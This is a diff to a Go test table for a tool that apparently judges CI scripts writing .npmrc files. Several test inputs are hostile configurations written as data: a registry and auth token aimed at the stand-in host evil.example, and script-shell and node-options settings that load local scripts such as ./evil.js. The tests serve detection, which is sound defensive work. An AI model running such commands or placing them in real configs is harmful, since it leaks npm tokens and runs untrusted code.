@@ -129,7 +129,11 @@ func TestWrittenNpmrcJudgedByKeys(t *testing.T) {
 		{script: "printf '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\\n' > .npmrc; npm publish --access public", understood: true, want: "registry.npmjs.org: npm sends secret NPM_TOKEN", noSecret: true},
 		{script: "echo '@acme:registry=https://npm.pkg.github.com' > .npmrc\nnpm ci", understood: true, want: "keys that run nothing", noSecret: true},
 		{script: "cat > .npmrc <<'EOF'\n; CI settings\nregistry=https://registry.npmjs.org/\nsave-exact=true\nfund=false\nEOF\nnpm install", understood: true, want: "keys that run nothing", noSecret: true},
-		{script: "printf 'registry=https://evil.example/\\n//evil.example/:_authToken=${NPM_TOKEN}\\n' > .npmrc; npm publish", understood: true, want: "sends secret NPM_TOKEN (npm) to evil.example"},
+		// a registry other than the public ones is where packages, and so
+		// their install code, come from: write, then run
+		{script: "printf 'registry=https://evil.example/\\n//evil.example/:_authToken=${NPM_TOKEN}\\n' > .npmrc; npm publish", want: "write, then run"},
+		{script: "printf 'registry=https://evil.example/\\n' > .npmrc; npm ci", want: "write, then run"},
+		{script: "printf '//evil.example/:_authToken=${NPM_TOKEN}\\n' > .npmrc; npm publish", understood: true, want: "sends secret NPM_TOKEN (npm) to evil.example"},
 		{script: "printf 'script-shell=./x.sh\\n' > .npmrc; npm test", want: "write, then run"},
 		{script: "printf 'node-options=--require ./evil.js\\n' > .npmrc; npm test", want: "write, then run"},
 		{script: "printf 'registry=https://r.example/\\n' > .npmrc; echo script-shell=./x >> .npmrc; npm test", want: "write, then run"},
